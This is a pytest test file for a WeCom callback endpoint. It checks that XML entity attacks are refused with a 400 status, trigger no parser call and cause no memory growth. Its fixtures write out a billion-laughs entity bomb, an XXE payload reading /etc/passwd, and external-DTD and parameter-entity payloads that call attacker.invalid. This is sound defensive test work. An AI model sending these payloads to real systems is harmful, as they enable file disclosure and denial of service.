"""Entity attacks are refused with 400 before any XML library expands anything."""

from __future__ import annotations

import tracemalloc
from collections.abc import AsyncIterator
from typing import Any
from xml.etree import ElementTree

import pytest
import wecom_crypto_ref as ref
import xmltodict
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from wecom_support import AES_KEY, AGENT_ID, CORP_ID, NOW, TOKEN, Clock, FakeInbox, make_config

from connectors.wecom.callback import add_routes
from connectors.wecom.xmlsafe import XmlRejected, check_xml_safe, parse_envelope

Client = TestClient[web.Request, web.Application]
PATH = "/wecom/callback"
MEMORY_BUDGET = 2 * 1024 * 1024  # a billion laughs would need gigabytes


def billion_laughs(root: str = "<xml><Encrypt>&lol9;</Encrypt></xml>", levels: int = 9) -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels + 1)]
    return ('<?xml version="1.0"?><!DOCTYPE lolz [' + "".join(entities) + "]>" + root).encode()


XXE = (b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       b"<xml><Encrypt>&xxe;</Encrypt></xml>")
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://attacker.invalid/x.dtd"><xml/>'
PARAMETER_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.invalid/p">'
                    b"%p;]><xml/>")


@pytest.fixture
def inbox() -> FakeInbox:
    return FakeInbox()


@pytest.fixture
async def client(inbox: FakeInbox, clock: Clock) -> AsyncIterator[Client]:
    app = web.Application()
    add_routes(app, make_config(), inbox.accept, clock=clock)
    async with TestClient(TestServer(app)) as c:
        yield c


@pytest.fixture
def xmltodict_calls(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    calls: list[Any] = []
    real = xmltodict.parse

    def spy(*args: Any, **kwargs: Any) -> Any:
        calls.append(args)
        return real(*args, **kwargs)

    monkeypatch.setattr(xmltodict, "parse", spy)
    return calls


def signed_query(encrypted: str) -> dict[str, str]:
    ts = str(int(NOW))
    return {"msg_signature": ref.sign(TOKEN, ts, "nonce", encrypted), "timestamp": ts, "nonce": "nonce"}


async def post_measured(client: Client, query: dict[str, str], body: bytes) -> tuple[int, int]:
    tracemalloc.start()
    try:
        before, _ = tracemalloc.get_traced_memory()
        resp = await client.post(PATH, params=query, data=body)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return resp.status, peak - before


@pytest.mark.parametrize("body", [billion_laughs(), XXE, EXTERNAL_DTD, PARAMETER_ENTITY,
                                  billion_laughs().decode().encode("utf-16")],
                         ids=["billion-laughs", "xxe", "external-dtd", "parameter-entity", "utf16-bomb"])
async def test_entity_attack_in_envelope_is_refused_without_memory_growth(
        client: Client, inbox: FakeInbox, xmltodict_calls: list[Any], body: bytes) -> None:
    status, growth = await post_measured(client, signed_query("x"), body)
    assert status == 400
    assert growth < MEMORY_BUDGET
    assert xmltodict_calls == []
    assert inbox.messages == []


@pytest.mark.parametrize("inner", [billion_laughs(root="<xml><MsgType>&lol9;</MsgType></xml>"), XXE],
                         ids=["billion-laughs", "xxe"])
async def test_entity_attack_inside_a_correctly_signed_payload_is_refused(
        client: Client, inbox: FakeInbox, xmltodict_calls: list[Any], inner: bytes) -> None:
    encrypted = ref.encrypt(AES_KEY, inner, CORP_ID)
    body = ref.envelope(encrypted, CORP_ID, AGENT_ID)
    status, growth = await post_measured(client, signed_query(encrypted), body)
    assert status == 400
    assert growth < MEMORY_BUDGET
    assert xmltodict_calls == []
    assert inbox.messages == []


def test_the_bomb_is_real_a_plain_expat_parser_expands_it() -> None:
    small = billion_laughs(root="<xml><Encrypt>&lol3;</Encrypt></xml>", levels=3)
    assert ElementTree.fromstring(small).findtext("Encrypt") == "lol" * 1000


def test_guard_refuses_doctype_even_without_entities() -> None:
    with pytest.raises(XmlRejected):
        check_xml_safe("<!DOCTYPE xml><xml><a>1</a></xml>")


def test_envelope_parser_reads_cdata_children_of_the_root() -> None:
    fields = parse_envelope(b"<xml><ToUserName><![CDATA[ww1]]></ToUserName><Encrypt>abc</Encrypt></xml>")
    assert fields == {"ToUserName": "ww1", "Encrypt": "abc"}


def test_predefined_and_character_entities_are_still_fine() -> None:
    check_xml_safe("<xml><Content>a &amp; b &#20013;</Content></xml>")
